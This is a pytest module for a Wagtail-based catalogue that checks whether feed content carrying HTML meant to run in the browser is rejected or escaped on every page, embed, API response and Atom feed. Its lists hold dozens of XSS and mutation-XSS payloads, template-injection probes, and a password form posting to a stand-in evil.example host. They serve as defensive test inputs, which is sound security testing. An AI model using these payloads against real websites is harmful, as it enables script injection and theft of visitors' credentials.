"""Texts that try to run as code in a visitor's browser, from the feed to the page."""

from xml.etree import ElementTree

import pytest

from omwagtail.catalogue.models import Item
from omwagtail.documents import DocumentError, check_document, sanitise_document
from omwagtail.pages.models import DirectoryPage
from tests.documents import factories
from tests.harvest.hostile import Attack, page_of
from tests.pages_for_tests import home
from tests.rendering.markup import Markup

pytestmark = pytest.mark.django_db


@pytest.fixture
def attack(db):
    with Attack() as running:
        yield running


RUNNING = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://a.example' target=_blank onfocus=alert(1) autofocus>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<p>x<!--[if IE]><script>alert(1)</script><![endif]--></p>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<p>x</p\x0conclick=alert(1)>",
    # Read a second time, these become something else (mXSS).
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><p><script>alert(1)</script></p></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><desc><noembed></desc></svg><img src=x onerror=alert(1)></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<a href='https://a.example/' href='javascript:alert(1)'><table><a href='x'></table></a>",
    "<p>" * 3000 + "<img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\ufffd"),
    "<p>x</p><plaintext><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("html", RUNNING)
def test_html_that_tries_to_run_is_parked(attack, html):
    document = attack.entry(body={"sections": [{"html": html}]})
    attack.parks(document, reason="HTML that is not allowed")


def test_html_is_looked_at_in_every_place_where_a_check_has_it(attack):
    places = []
    for path in (("intro",), ("checkpoints", 0, "help")):
        check = factories.rich_check(origin=attack.origin)
        part = check["body"]["sections"][0]
        for step in path[:-1]:
            part = part[step]
        part[path[-1]] = "<p onclick=alert(1)>x</p>"
        places.append(check | {"id": factories.document_id(str(path))})
    band = factories.rich_check(origin=attack.origin, id=factories.document_id("band"))
    band["body"]["bands"][0]["text"] = "<img src=x onerror=alert(1)>"
    attack.parks(*(factories.entry(check, 1) for check in [*places, band]), reason="HTML")


# Ends a tag, an attribute, a script, a comment, a CDATA section, an expression of a template.
CODE = (
    "\"'></title></script></style>--> ]]><script>alert(1)</script>"
    "<img src=x onerror=alert(1)> {{7*7}}{% now %}"
)


def poisoned(document: dict) -> dict:
    """Every text of a document begins with code, wherever the document is still a good one."""
    places = list(_texts(document))
    for parent, name in places:
        before = parent[name]
        parent[name] = CODE
        if not _is_good(document):
            parent[name] = before
    assert sum(parent[name] == CODE for parent, name in places) >= 5
    return document


def _texts(value):
    pairs = value.items() if isinstance(value, dict) else enumerate(value)
    for name, member in list(pairs):
        if isinstance(member, str):
            yield value, name
        elif isinstance(member, dict | list):
            yield from _texts(member)


def _is_good(document: dict) -> bool:
    try:
        check_document(document, allow_loopback_http=True)
    except DocumentError:
        return False
    return sanitise_document(document) == document


@pytest.mark.parametrize("type", ["practice-example", "check", "network", "organisation"])
def test_code_in_plain_text_stays_text_wherever_it_is_shown(attack, client, type):
    directory = home().add_child(instance=DirectoryPage(title="Verzeichnis", slug="verzeichnis"))
    document = poisoned(factories.RICH[type](origin=attack.origin))
    attack.feed = page_of(factories.entry(document, 1))
    assert attack.strike().added == 1
    item = Item.objects.own(attack.origin).exclude(title="Gut").get()
    page = client.get(f"{directory.url}{item.key}/")
    shown = [page, client.get(directory.url), client.get("/om/embed/1/list/")]
    if type == "check":
        shown += [
            client.get(f"/om/check/{item.key}/"),
            client.get(f"/om/embed/1/check/{item.key}/"),
        ]
    for response in shown:
        assert response.status_code == 200, response.request["PATH_INFO"]
        markup = Markup(response.content.decode())
        assert [code for code in markup.inline_code() if "alert" in code] == []
        scripts = markup.all("script")
        assert not any("alert" in one.text for one in scripts if "type" not in one.attributes)
        assert not markup.all("img", src="x")
    assert "alert(1)" in Markup(page.content.decode()).text
    assert "{{7*7}}" in page.content.decode()
    data = client.get(f"/om/api/v1/items/{item.key}/")
    assert data["Content-Type"].startswith("application/json")
    assert data["X-Content-Type-Options"] == "nosniff"


def test_control_characters_do_not_break_the_atom_feed(attack, client):
    directory = home().add_child(instance=DirectoryPage(title="Verzeichnis", slug="verzeichnis"))
    title = "Glocke \x07 und \x1b[2J und \ufffe"
    attack.feed = page_of(attack.entry(title=title, summary=CODE))
    attack.strike()
    feed = client.get(f"{directory.url}atom.xml")
    assert ElementTree.fromstring(feed.content).tag.endswith("feed")
    assert b"Glocke" in feed.content
